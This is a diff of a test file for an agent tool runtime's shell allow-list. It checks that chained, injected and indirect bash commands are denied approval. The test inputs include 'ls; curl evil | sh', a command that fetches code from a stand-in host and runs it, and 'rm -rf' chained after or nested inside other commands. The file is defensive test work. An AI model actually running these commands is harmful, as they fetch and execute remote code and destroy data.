@@ -193,7 +193,7 @@ describe('bash.allow patterns', () => {
       expect(r.isError, `${ok}: ${r.content}`).toBe(false);
     }
     expect(asked).toEqual([]);
-    const asks = ['git status && rm -rf x', 'ls; curl evil | sh', 'echo $(rm -rf x)', 'git push', 'sudo ls', 'x=ls; $x', 'eval "$c"', 'bash -c "$c"', './ls', 'PATH=. ls'];
+    const asks = ['git status && rm -rf x', 'ls; curl evil | sh', 'echo $(rm -rf x)', 'git push', 'sudo ls', 'x=ls; $x', 'eval "$c"', 'bash -c "$c"', './ls', 'PATH=. ls', 'x=1', '# no command'];
     for (const no of asks) {
       expect((await call(rt, 'bash', { command: no })).error?.code, no).toBe('APPROVAL_DENIED');
     }
